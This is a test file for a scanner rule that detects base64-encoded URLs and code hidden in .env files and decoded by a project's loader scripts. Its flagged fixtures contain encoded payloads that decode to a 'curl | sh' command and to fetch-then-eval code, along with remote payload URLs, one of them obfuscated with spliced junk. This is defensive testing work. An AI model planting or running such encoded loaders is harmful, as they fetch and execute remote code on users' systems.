import { ruleTest } from '../../testing/rule-tester.js';
import rule from './env-encoded-url.js';

ruleTest(rule, {
  clean: [
    {
      name: 'plain URLs and base64 secrets',
      files: {
        '.env': 'API_URL="https://api.example.com"\nJWT_SECRET=c2VjcmV0LXNpZ25pbmcta2V5LWZvci1qd3Q=\nPORT=4000\n',
        'server.js': 'const u = process.env.API_URL;\nconst s = Buffer.from(process.env.JWT_SECRET, "base64");\n',
      },
    },
    {
      name: 'base64 code-like text decoded but never executed (rendered)',
      files: {
        '.env': 'BANNER=PGRpdj57eyByZXF1aXJlKCdmcycpIH19IGFuZCBldmFsKCBpbiBkb2NzPC9kaXY+\n',
        'lib/banner.js': 'export const banner = atob(process.env.BANNER);\nexport const n = new Function("a", "return a + 1");\n',
      },
    },
  ],
  flagged: [
    {
      name: 'base64 URL decoded by the loader',
      files: {
        'api/.env': 'DEV_APP_URL = "http://localhost:4000"\nDEV_API_KEY="aHR0cHM6Ly9qc29ua2VlcGVyLmNvbS9iL0U0WVBa"\n',
        'api/utils/bootstrap.js': 'const src = atob(process.env.DEV_API_KEY);\n',
      },
      findings: [{ file: 'api/.env', line: 2, severity: 'high', confidence: 'high', decoded: 'https://jsonkeeper.com/b/E4YPZ', message: /decoded by api\/utils\/bootstrap\.js/ }],
    },
    {
      name: 'junk spliced into the base64 and removed in code',
      files: {
        '.env': 'DEV_API_KEY="aHR0cHM6Ly9icy1wcm9kdWN0aWnob9uLnVwLnJhaWx3YXkuYXBwL3N2Zw=="\n',
        'boot.js': "const src = atob(process.env.DEV_API_KEY.replace('nob', ''));\n",
      },
      findings: [{ file: '.env', line: 1, decoded: 'https://bs-production.up.railway.app/svg', message: /after removing the junk "nob"/ }],
    },
    {
      name: 'base64 code in .env.local decoded and evaled',
      files: {
        '.env.local': 'NEXT_PUBLIC_ANALYTICS=cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9jZG4uZXhhbXBsZS5pbnZhbGlkL3ggfCBzaCcp\n',
        'lib/analytics.js': 'export function init() {\n  if (typeof window === "undefined") eval(atob(process.env.NEXT_PUBLIC_ANALYTICS));\n}\n',
      },
      findings: [{ file: '.env.local', line: 1, severity: 'critical', confidence: 'high', decoded: "require('child_process').exec('curl -s https://cdn.example.invalid/x | sh')", message: /base64-encoded code, decoded and executed by lib\/analytics\.js/ }],
    },
    {
      name: 'base64 code bound to a name, then run with new Function',
      files: { '.env': 'PORT=3000\nAUTH_KEY=ZmV0Y2goJ2h0dHBzOi8vY2RuLmV4YW1wbGUuaW52YWxpZC96JykudGhlbihyPT5yLnRleHQoKSkudGhlbihldmFsKQ==\n', 'server/auth.js': 'const c = Buffer.from(process.env.AUTH_KEY, "base64").toString();\nnew Function(c)();\n' },
      findings: [{ file: '.env', line: 2, severity: 'critical', message: /decoded and executed by server\/auth\.js/ }],
    },
  ],
});
